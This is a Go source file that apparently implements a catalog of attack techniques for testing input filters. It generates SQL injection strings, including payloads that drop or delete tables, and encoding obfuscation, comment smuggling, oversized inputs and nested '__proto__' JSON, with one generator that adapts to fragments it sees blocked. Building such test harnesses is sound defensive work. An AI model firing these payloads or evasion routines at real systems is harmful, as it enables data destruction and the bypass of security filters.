package attacks

import (
	"encoding/base64"
	"fmt"
	"math/rand"
	"strings"
	"sync"
)

// Technique is the fixed capability contract every attack variant
// implements. The catalog is closed: variants are registered in the
// init-time table below, never discovered dynamically.
type Technique interface {
	Name() string
	Tags() []string
	GenerateWave(generation int, rng *rand.Rand) []Payload
}

// Learner is implemented by techniques that adapt to blocked payloads.
type Learner interface {
	RecordBlock(p Payload)
}

// catalogOrder fixes iteration order for deterministic campaigns.
var catalogOrder = []string{
	"polymorphic_sql",
	"encoding_obfuscation",
	"oversized_payload",
	"nested_state",
	"comment_smuggling",
}

func newCatalog() map[string]Technique {
	return map[string]Technique{
		"polymorphic_sql":      newPolymorphicSQL(),
		"encoding_obfuscation": &encodingObfuscation{},
		"oversized_payload":    &oversizedPayload{},
		"nested_state":         &nestedState{},
		"comment_smuggling":    &commentSmuggling{},
	}
}

// polymorphicSQL transforms its base injection around fragments it has
// seen blocked, switching operators, quote styles and letter forms.
type polymorphicSQL struct {
	mu      sync.Mutex
	blocked map[string]struct{}
}

func newPolymorphicSQL() *polymorphicSQL {
	return &polymorphicSQL{blocked: make(map[string]struct{})}
}

func (t *polymorphicSQL) Name() string   { return "polymorphic_sql" }
func (t *polymorphicSQL) Tags() []string { return []string{"injection"} }

func (t *polymorphicSQL) GenerateWave(generation int, rng *rand.Rand) []Payload {
	base := "admin' OR '1'='1"
	t.mu.Lock()
	if _, ok := t.blocked["OR"]; ok {
		base = strings.ReplaceAll(base, "OR", "||")
	}
	if _, ok := t.blocked["'"]; ok {
		base = strings.ReplaceAll(base, "'", `"`)
	}
	if _, ok := t.blocked["1=1"]; ok {
		base = strings.ReplaceAll(base, "1'='1", "2'>'1")
	}
	t.mu.Unlock()

	variants := []string{
		base,
		strings.ReplaceAll(base, " ", "/**/"),
		caseVariation(base, rng),
		base + "; DROP TABLE users--",
	}
	wave := make([]Payload, 0, len(variants))
	for _, v := range variants {
		wave = append(wave, Payload{Technique: t.Name(), Tags: t.Tags(), Data: v})
	}
	return wave
}

func (t *polymorphicSQL) RecordBlock(p Payload) {
	t.mu.Lock()
	defer t.mu.Unlock()
	for _, frag := range []string{"OR", "AND", "'", `"`, "1=1", "DROP"} {
		if strings.Contains(p.Data, frag) {
			t.blocked[frag] = struct{}{}
		}
	}
}

func caseVariation(s string, rng *rand.Rand) string {
	out := []rune(s)
	for i, c := range out {
		if rng.Float64() > 0.5 {
			out[i] = []rune(strings.ToUpper(string(c)))[0]
		} else {
			out[i] = []rune(strings.ToLower(string(c)))[0]
		}
	}
	return string(out)
}

// encodingObfuscation hides a known-bad payload behind encoding layers.
type encodingObfuscation struct{}

func (t *encodingObfuscation) Name() string   { return "encoding_obfuscation" }
func (t *encodingObfuscation) Tags() []string { return []string{"injection", "encoding"} }

func (t *encodingObfuscation) GenerateWave(generation int, rng *rand.Rand) []Payload {
	inner := "'; DELETE FROM sessions--"
	layers := 1 + generation%3
	encoded := inner
	for i := 0; i < layers; i++ {
		encoded = base64.StdEncoding.EncodeToString([]byte(encoded))
	}
	return []Payload{
		{Technique: t.Name(), Tags: t.Tags(), Data: "data:text/plain;base64," + encoded},
		{Technique: t.Name(), Tags: t.Tags(), Data: urlEncode(inner)},
		{Technique: t.Name(), Tags: t.Tags(), Data: hexEncode(inner)},
	}
}

func urlEncode(s string) string {
	var sb strings.Builder
	for _, b := range []byte(s) {
		fmt.Fprintf(&sb, "%%%02X", b)
	}
	return sb.String()
}

func hexEncode(s string) string {
	var sb strings.Builder
	for _, b := range []byte(s) {
		fmt.Fprintf(&sb, `\x%02x`, b)
	}
	return sb.String()
}

// oversizedPayload probes bounds enforcement with growing payloads.
type oversizedPayload struct{}

func (t *oversizedPayload) Name() string   { return "oversized_payload" }
func (t *oversizedPayload) Tags() []string { return []string{"overflow"} }

func (t *oversizedPayload) GenerateWave(generation int, rng *rand.Rand) []Payload {
	sizes := []int{1200, 2048, 4096 + generation*512}
	wave := make([]Payload, 0, len(sizes))
	for _, n := range sizes {
		wave = append(wave, Payload{
			Technique: t.Name(),
			Tags:      t.Tags(),
			Data:      strings.Repeat("A", n),
		})
	}
	return wave
}

// nestedState smuggles deeply nested structures at state handling code.
type nestedState struct{}

func (t *nestedState) Name() string   { return "nested_state" }
func (t *nestedState) Tags() []string { return []string{"state"} }

func (t *nestedState) GenerateWave(generation int, rng *rand.Rand) []Payload {
	depth := 4 + generation%4
	open := strings.Repeat(`{"a":[`, depth)
	close := strings.Repeat(`]}`, depth)
	return []Payload{
		{Technique: t.Name(), Tags: t.Tags(), Data: open + `"__proto__"` + close},
		{Technique: t.Name(), Tags: t.Tags(), Data: open + `1` + close},
	}
}

// commentSmuggling splits keywords across comment markers and case flips.
type commentSmuggling struct{}

func (t *commentSmuggling) Name() string   { return "comment_smuggling" }
func (t *commentSmuggling) Tags() []string { return []string{"injection", "obfuscation"} }

func (t *commentSmuggling) GenerateWave(generation int, rng *rand.Rand) []Payload {
	return []Payload{
		{Technique: t.Name(), Tags: t.Tags(), Data: "SEL/**/ECT * FR/**/OM users"},
		{Technique: t.Name(), Tags: t.Tags(), Data: caseVariation("select * from users where id=1 or 1=1", rng)},
	}
}
